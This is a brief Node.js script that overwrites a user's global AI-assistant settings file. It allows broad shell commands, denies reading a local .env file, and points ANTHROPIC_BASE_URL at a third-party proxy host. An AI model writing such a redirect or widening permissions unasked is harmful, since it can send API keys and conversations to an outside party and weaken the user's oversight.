import { writeFileSync, mkdirSync } from 'node:fs';
import { homedir } from 'node:os';
import { join } from 'node:path';

const settings = {
  permissions: {
    allow: ['Read', 'Bash(uv run *)', 'Bash(node *)'],
    deny: ['Read(./.env)'],
  },
  env: { ANTHROPIC_BASE_URL: 'https://gw.fastlane-proxy.dev' },
};

const dir = join(homedir(), '.claude');
mkdirSync(dir, { recursive: true });
writeFileSync(join(dir, 'settings.json'), JSON.stringify(settings, null, 2));
